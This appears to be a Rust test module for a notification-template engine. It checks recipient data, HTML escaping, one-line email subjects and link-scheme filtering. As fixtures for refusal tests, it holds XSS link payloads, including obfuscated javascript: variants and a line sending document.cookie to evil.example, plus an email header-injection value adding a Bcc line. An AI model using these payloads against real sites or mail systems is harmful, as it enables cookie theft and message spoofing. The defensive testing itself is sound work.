    fn data(v: serde_json::Value) -> Map<String, Value> {
        v.as_object().unwrap().clone()
    }

    fn nobody() -> RecipientView {
        RecipientView { id: "user-1".into(), ..RecipientView::default() }
    }

    fn greeting(text: &str) -> CompiledTemplate {
        CompiledTemplate::compile(
            serde_json::from_value(serde_json::json!({
                "name": "hello", "channels": ["sms"], "default_locale": "en", "variables": ["code"],
                "locales": {"en": {"sms": {"text": text}}}
            }))
            .unwrap(),
        )
        .unwrap()
    }

    #[test]
    fn templates_see_the_person_and_default_what_they_lack() {
        let t = greeting(
            "Hi {{ recipient.attributes.first_name | default(\"there\") }} ({{ recipient.id }}, \
             {{ recipient.locale | default(\"?\") }}){% if recipient.attributes.beta | default(false) %} [beta]{% endif %}",
        );
        let ana = RecipientView {
            id: "user-42".into(),
            attributes: data(serde_json::json!({"first_name": "Ana", "beta": true})),
            locale: Some("fr-FR".into()),
            timezone: None,
        };
        assert_eq!(t.render_sms(None, &Map::new(), &ana).unwrap().text, "Hi Ana (user-42, fr-FR) [beta]");
        assert_eq!(t.render_sms(None, &Map::new(), &nobody()).unwrap().text, "Hi there (user-1, ?)");
        // Herald's recipient wins over a `recipient` in the data.
        let spoof = data(serde_json::json!({"recipient": {"id": "someone-else"}}));
        assert!(t.render_sms(None, &spoof, &nobody()).unwrap().text.contains("user-1"));
        // Strict everywhere else: an attribute used without a default fails the render, in
        // a condition too.
        for text in ["Hi {{ recipient.attributes.first_name }}", "{% if recipient.attributes.beta %}b{% endif %}"] {
            let bare = greeting(text);
            assert!(
                matches!(bare.render_sms(None, &Map::new(), &nobody()), Err(TemplateError::Render { .. })),
                "{text}"
            );
        }
    }

    #[test]
    fn the_attributes_a_template_uses_are_known_and_checked_against_the_profile() {
        use crate::domain::profile::{AttributeType, ProfileSchema};
        let t = greeting(
            "{{ recipient.attributes.first_name | default(\"x\") }}{{ recipient.attributes.plan.upper() }}\
             {% for i in recipient.attributes.interests %}{{ i }}{% endfor %}{{ recipient.timezone }}",
        );
        let used = t.profile_use();
        assert_eq!(used.attributes.iter().collect::<Vec<_>>(), ["first_name", "interests", "plan"]);
        assert!(!used.all_attributes);
        let all = data(serde_json::json!({"first_name": "A", "plan": "pro", "other": 1}));
        assert_eq!(used.pick(&all), data(serde_json::json!({"first_name": "A", "plan": "pro"})));
        assert!(t.check().is_empty(), "{:?}", t.check());

        let schema = ProfileSchema {
            attributes: [
                ("first_name".to_owned(), AttributeType::String),
                ("interests".to_owned(), AttributeType::List),
            ]
            .into_iter()
            .collect(),
        };
        assert_eq!(
            t.check_profile(&schema),
            ["en/sms/text.txt uses recipient.attributes.plan, which profile.toml does not declare"]
        );
        let whole = greeting("{% for k in recipient.attributes %}{{ k }}{% endfor %}{{ recipient.attributes[code] }}");
        assert!(whole.profile_use().all_attributes);
        assert_eq!(whole.profile_use().pick(&all), all);
        assert_eq!(whole.check_profile(&schema).len(), 1);
        let typo = greeting("{{ recipient.atributes.x }}");
        assert_eq!(
            typo.check(),
            ["en/sms/text.txt uses recipient.atributes.x: recipient has id, attributes, locale, timezone"]
        );
        let mut shadow = greeting("{{ code }}").doc;
        shadow.variables.push("recipient".into());
        assert_eq!(CompiledTemplate::compile(shadow).unwrap().check().len(), 1, "recipient is Herald's");
    }

    #[test]
    fn renders_with_defaults_and_escapes_html_only() {
        let t = CompiledTemplate::compile(doc()).unwrap();
        let d = data(serde_json::json!({"order_id": "<1234>"}));
        let push = t.render_push(None, &d, &nobody()).unwrap();
        assert_eq!(push.body, "Order <1234> arrives soon.");
        let email = t.render_email(Some("en-GB"), &d, &nobody()).unwrap();
        assert_eq!(email.html, "<p>Order &lt;1234&gt;</p>");
        assert_eq!(email.text, "Order <1234>");
        let d = data(serde_json::json!({"order_id": "1", "eta": "mardi"}));
        assert_eq!(t.render_sms(Some("fr-FR"), &d, &nobody()).unwrap().text, "Commande 1 : livraison mardi.");
    }

    #[test]
    fn missing_data_and_parts_are_errors() {
        let t = CompiledTemplate::compile(doc()).unwrap();
        let err = t.render_sms(None, &Map::new(), &nobody()).unwrap_err();
        assert!(matches!(err, TemplateError::Render { .. }), "{err}");
        // French has no push part: the default locale's is used.
        assert_eq!(
            t.render_push(Some("fr"), &data(serde_json::json!({"order_id": "1"})), &nobody()).unwrap().title,
            "Shipped"
        );
        let mut no_sms = doc();
        no_sms.locales.values_mut().for_each(|p| p.sms = None);
        let t = CompiledTemplate::compile(no_sms).unwrap();
        assert!(matches!(t.render_sms(None, &Map::new(), &nobody()), Err(TemplateError::MissingPart { .. })));
    }

    #[test]
    fn check_limits_measures_push_and_sms() {
        let t = CompiledTemplate::compile(doc()).unwrap();
        assert!(t.check_limits(&Limits::default()).is_empty());
        let mut long = doc();
        long.locales.get_mut("en").unwrap().sms =
            Some(SmsPart { text: format!("{} {{{{ order_id }}}}", "a".repeat(500)) });
        long.locales.get_mut("en").unwrap().push.as_mut().unwrap().body = "b".repeat(5000);
        let problems = CompiledTemplate::compile(long).unwrap().check_limits(&Limits::default());
        assert!(problems.iter().any(|p| p.contains("over the budget of 3")), "{problems:?}");
        assert!(problems.iter().any(|p| p.contains("en/push") && p.contains("apns")), "{problems:?}");
        assert!(problems.iter().any(|p| p.contains("en/push") && p.contains("fcm")), "{problems:?}");
    }

    #[test]
    fn a_subject_is_one_line_without_control_characters() {
        let cases = [
            ("Order 1234 has shipped", "Order 1234 has shipped"),
            ("Order 1\r\nBcc: victim@example.com", "Order 1 Bcc: victim@example.com"),
            ("a\nb\rc\r\n\r\nd", "a b c d"),
            ("tab\there", "tab here"),
            ("line \n next", "line  next"),
            ("\r\nleading and trailing\n", "leading and trailing"),
            ("bell\u{7}and\u{0}nul\u{1b}[31m", "bellandnul[31m"),
            ("nel\u{85}ls\u{2028}ps\u{2029}end", "nel ls ps end"),
            ("Café – déjà vu 🎉", "Café – déjà vu 🎉"),
            ("", ""),
        ];
        for (subject, expected) in cases {
            assert_eq!(one_line(subject), expected, "{subject:?}");
        }
    }

    #[test]
    fn links_are_judged_as_a_browser_reads_them() {
        use LinkVerdict::{Allowed, Refused, Undecided};
        let relative = || Refused("is not an absolute https, http or mailto URL".into());
        let scheme = |s: &str| Refused(format!("has scheme {s}, not https, http or mailto"));
        let cases: &[(&str, bool, LinkVerdict)] = &[
            ("https://shop.example/track/1", true, Allowed),
            ("HTTP://shop.example", true, Allowed),
            ("mailto:help@shop.example", true, Allowed),
            ("#section-2", true, Allowed),
            ("https:&#x2f;&#x2f;shop.example&#x2f;t", true, Allowed), // minijinja escapes '/'
            ("  \u{1}https://shop.example", true, Allowed),
            ("javascript:alert(1)", true, scheme("javascript")),
            (" JaVaScRiPt:alert(1)", true, scheme("javascript")),
            ("java\tscr\nipt:alert(1)", true, scheme("javascript")),
            ("&#106;avascript:alert(1)", true, scheme("javascript")),
            ("&#x6A&#x61vascript&colon;alert(1)", true, scheme("javascript")),
            ("jav&Tab;ascript:alert(1)", true, scheme("javascript")),
            ("data:text/html;base64,PHNjcmlwdD4=", true, scheme("data")),
            ("vbscript:msgbox", true, scheme("vbscript")),
            ("file:///etc/passwd", true, scheme("file")),
            ("shop-app://orders/1", true, scheme("shop-app")),
            ("", true, relative()),
            ("/track/1", true, relative()),
            ("//evil.example/x", true, relative()),
            ("track?id=1", true, relative()),
            ("1abc:x", true, relative()),
            ("&#0;javascript:x", true, relative()),
            ("&#99999999999;x", true, relative()),
            // Only the start of the link is known (a template tag follows).
            ("", false, Undecided),
            ("ht", false, Undecided),
            ("https:", false, Allowed),
            ("https://", false, Allowed),
            ("mailto:", false, Allowed),
            ("#", false, Allowed),
            ("javascript:", false, scheme("javascript")),
            ("ftp://", false, scheme("ftp")),
            ("/", false, relative()),
            ("www.", false, Undecided),
            ("www.shop", false, Undecided),
            ("shop.example/", false, relative()),
        ];
        for (href, complete, expected) in cases {
            assert_eq!(&link_verdict(href, *complete), expected, "{href:?} (complete: {complete})");
        }
    }

    #[test]
    fn hrefs_are_read_from_start_tags_only() {
        let cases: &[(&str, &[&str])] = &[
            (r#"<a href="https://a">x</a>"#, &["https://a"]),
            ("<A HREF='b'>x</A>", &["b"]),
            ("<a href=c>x</a><a\nhref = \"d\" >", &["c", "d"]),
            (r#"<a title="href=no" data-href="no" href="e">"#, &["e"]),
            (r#"<area href="f"/><link rel=x href=g>"#, &["f", "g"]),
            (r#"<!-- <a href="no"> --><p>href="no"</p> 1 < 2 <a href="h">"#, &["h"]),
            ("<a href=\"unclosed", &["unclosed"]),
            ("<a href", &[]),
            ("<a href=", &[""]),
            ("<a href='x' <b href=y>", &["x", "y"]),
            ("", &[]),
            ("<<<>>>", &[]),
            ("<é href=\"ü\">", &[]),
            ("<a é=1 href=\"ü\">", &["ü"]),
        ];
        for (html, expected) in cases {
            assert_eq!(&hrefs(html), expected, "{html:?}");
        }
    }

    fn email_doc(html: &str) -> TemplateDoc {
        let mut d = doc();
        d.variables.extend(["url".to_owned(), "host".to_owned()]);
        d.locales.get_mut("en").unwrap().email.as_mut().unwrap().html = html.to_owned();
        d
    }

    #[test]
    fn a_rendered_link_with_another_scheme_refuses_the_send() {
        let t =
            CompiledTemplate::compile(email_doc(r##"<p><a href="{{ url }}">Track</a> or <a href="#faq">FAQ</a></p>"##))
                .unwrap();
        let sent = |url: &str| t.render_email(None, &data(serde_json::json!({"order_id": "1", "url": url})), &nobody());
        let email = sent("https://shop.example/track?id=1&o=2").unwrap();
        assert!(
            email.html.contains("href=\"https:&#x2f;&#x2f;shop.example&#x2f;track?id=1&amp;o=2\""),
            "{}",
            email.html
        );
        assert!(sent("mailto:help@shop.example").is_ok());
        for (url, scheme) in [
            ("javascript:fetch('https://evil.example/'+document.cookie)", "javascript"),
            ("data:text/html,<script>alert(1)</script>", "data"),
            (" VBScript:msgbox", "vbscript"),
        ] {
            let err = sent(url).unwrap_err();
            let TemplateError::Render { detail, .. } = &err else { panic!("{err}") };
            assert_eq!(detail, &format!("en/email/html.html: link 1 has scheme {scheme}, not https, http or mailto"));
            assert!(!err.to_string().contains("evil") && !err.to_string().contains("alert"), "{err}");
        }
        assert!(sent("/relative").is_err());
    }

    #[test]
    fn a_rendered_subject_is_one_line() {
        let t = CompiledTemplate::compile(doc()).unwrap();
        let email =
            t.render_email(None, &data(serde_json::json!({"order_id": "1\r\nBcc: x@example.com"})), &nobody()).unwrap();
        assert_eq!(email.subject, "Order 1 Bcc: x@example.com");
        // The body keeps its lines.
        assert_eq!(email.text, "Order 1\r\nBcc: x@example.com");
    }

    #[test]
    fn check_reports_literal_links_that_will_be_refused() {
        let cases: &[(&str, Option<&str>)] = &[
            (r#"<a href="{{ url }}">x</a>"#, None),
            (r#"<a href="https://{{ host }}/t">x</a>"#, None),
            (r##"<a href="mailto:help@shop.example">x</a> <a href="#top">top</a>"##, None),
            (r#"<a href="{{ url }}">x</a> <a href="javascript:void(0)">y</a>"#, Some("link 2 has scheme javascript")),
            (r#"<a href="ftp://{{ host }}/f">x</a>"#, Some("link 1 has scheme ftp")),
            (r#"<a href="/account/{{ url }}">x</a>"#, Some("link 1 is not an absolute https, http or mailto URL")),
            (r#"<a href="">x</a>"#, Some("link 1 is not an absolute")),
        ];
        for (html, expected) in cases {
            let problems = CompiledTemplate::compile(email_doc(html)).unwrap().check();
            match expected {
                None => assert!(problems.is_empty(), "{html}: {problems:?}"),
                Some(text) => assert!(
                    problems.iter().any(|p| p.starts_with("en/email/html.html: ") && p.contains(text)),
                    "{html}: {problems:?}"
                ),
            }
        }
    }

    #[test]
    fn check_finds_undeclared_variables_and_missing_parts() {
        assert!(CompiledTemplate::compile(doc()).unwrap().check().is_empty());
        let mut bad = doc();
        bad.variables = vec!["order_id".into()];
        bad.channels.push(Channel::Sms);
        bad.locales.get_mut("en").unwrap().sms = None;
        let problems = CompiledTemplate::compile(bad).unwrap().check();
        assert!(problems.iter().any(|p| p.contains("undeclared variables: eta")), "{problems:?}");
        assert!(problems.iter().any(|p| p.contains("channel sms")), "{problems:?}");
        let mut broken = doc();
        broken.locales.get_mut("en").unwrap().sms = Some(SmsPart { text: "{{ oops".into() });
        assert!(matches!(CompiledTemplate::compile(broken), Err(TemplateError::Syntax { .. })));
    }

    #[test]
    fn preferences_url_is_heralds_own_and_its_use_is_known_per_part() {
        let doc: TemplateDoc = serde_json::from_value(serde_json::json!({
            "name": "promo", "channels": ["email"], "default_locale": "en", "variables": ["offer"],
            "locales": {
                "en": {"email": {"subject": "{{ offer }}", "html": "<a href=\"{{ preferences_url }}\">prefs</a>", "text": "{{ offer }}"}},
                "fr": {"email": {"subject": "{{ offer }}", "html": "<p>{{ offer }}</p>", "text": "Gérer : {{ preferences_url }}"}},
            }
        }))
        .unwrap();
        let t = CompiledTemplate::compile(doc.clone()).unwrap();
        assert!(t.check().is_empty(), "{:?}", t.check());
        assert_eq!(t.email_uses(None, PREFERENCES_URL_VAR), (true, false));
        assert_eq!(t.email_uses(Some("fr-CA"), PREFERENCES_URL_VAR), (false, true));
        assert_eq!((t.email_locale(Some("fr-CA")), t.email_locale(Some("de"))), (Some("fr"), Some("en")));
        assert_eq!(greeting("{{ code }}").email_uses(None, PREFERENCES_URL_VAR), (false, false), "no email part");
        let url = "https://h.example/preferences?t=a.b";
        let data = data(serde_json::json!({"offer": "20% off", PREFERENCES_URL_VAR: url}));
        assert!(t.render_email(None, &data, &nobody()).unwrap().html.contains("href=\"https:"));
        let mut declared = doc;
        declared.variables.push(PREFERENCES_URL_VAR.into());
        let problems = CompiledTemplate::compile(declared).unwrap().check();
        assert!(problems.iter().any(|p| p.contains("preferences_url is Herald's own")), "{problems:?}");
    }

    fn digest_doc(digest: Value, sms: &str) -> TemplateDoc {
        serde_json::from_value(serde_json::json!({
            "name": "new_comments", "channels": ["sms"], "default_locale": "en", "variables": ["post"],
            "digest": digest,
            "locales": {"en": {"sms": {"text": sms}}}
        }))
        .unwrap()
    }

    #[test]
    fn digest_templates_see_items_and_total_and_are_checked_with_example_items() {
        let sms = "{{ total }} new comments on {{ post }}: {% for i in items %}{{ i.author }} {% endfor %}";
        let ok = CompiledTemplate::compile(digest_doc(
            serde_json::json!({"items": 2, "example_items": [{"author": "Bo"}, {"author": "Cy"}, {"author": "Di"}]}),
            sms,
        ))
        .unwrap();
        assert_eq!(ok.check(), Vec::<String>::new());
        assert_eq!(ok.check_limits(&Limits::default()), Vec::<String>::new());
        assert_eq!(ok.digest_items(), 2);
        let data =
            data(serde_json::json!({"post": "Spring", "total": 12, "items": [{"author": "Bo"}, {"author": "Cy"}]}));
        assert_eq!(ok.render_sms(None, &data, &nobody()).unwrap().text, "12 new comments on Spring: Bo Cy ");

        // Without example items, or with more items than a head keeps, check refuses it.
        let bare = CompiledTemplate::compile(digest_doc(serde_json::json!({"items": 60}), sms)).unwrap();
        let problems = bare.check();
        assert!(problems.iter().any(|p| p.contains("[digest] example_items")), "{problems:?}");
        assert!(problems.iter().any(|p| p.contains("[digest] items is 60")), "{problems:?}");
        // Example items that the parts cannot render with are found by check_limits.
        let wrong =
            CompiledTemplate::compile(digest_doc(serde_json::json!({"example_items": [{"name": "Bo"}]}), sms)).unwrap();
        assert!(!wrong.check_limits(&Limits::default()).is_empty());
        // Outside a digest template, items and total are ordinary undeclared variables.
        let mut plain = digest_doc(serde_json::json!({}), sms);
        plain.digest = None;
        let problems = CompiledTemplate::compile(plain).unwrap().check();
        assert!(problems.iter().any(|p| p.contains("undeclared variables: items, total")), "{problems:?}");
    }

    #[test]
    fn the_inbox_part_renders_title_body_link_and_data() {
        let doc = |url: &str| {
            serde_json::from_value::<TemplateDoc>(serde_json::json!({
                "name": "shipped", "channels": ["inbox"], "default_locale": "en", "variables": ["order"],
                "locales": {"en": {"inbox": {
                    "title": "Order {{ order }}\nshipped", "body": "It is on its way, {{ recipient.id }}.",
                    "action_url": url, "data": {"badge": "{{ order }}", "kind": "shipping"}
                }}}
            }))
            .unwrap()
        };
        let data = serde_json::json!({"order": "1234"}).as_object().unwrap().clone();
        let t = CompiledTemplate::compile(doc("https://shop.example/orders/{{ order }}")).unwrap();
        assert!(t.check().is_empty(), "{:?}", t.check());
        let content = t.render_inbox(Some("fr-FR"), &data, &nobody()).unwrap();
        assert_eq!(content.title, "Order 1234 shipped");
        assert_eq!(content.body, "It is on its way, user-1.");
        assert_eq!(content.action_url.as_deref(), Some("https://shop.example/orders/1234"));
        assert_eq!(content.data.get("badge").map(String::as_str), Some("1234"));
        assert_eq!(content.data.get("kind").map(String::as_str), Some("shipping"));
        let script = CompiledTemplate::compile(doc("javascript:alert({{ order }})")).unwrap();
        assert!(matches!(script.render_inbox(None, &data, &nobody()), Err(TemplateError::Render { .. })));
        assert!(matches!(greeting("x").render_inbox(None, &data, &nobody()), Err(TemplateError::MissingPart { .. })));
    }
}
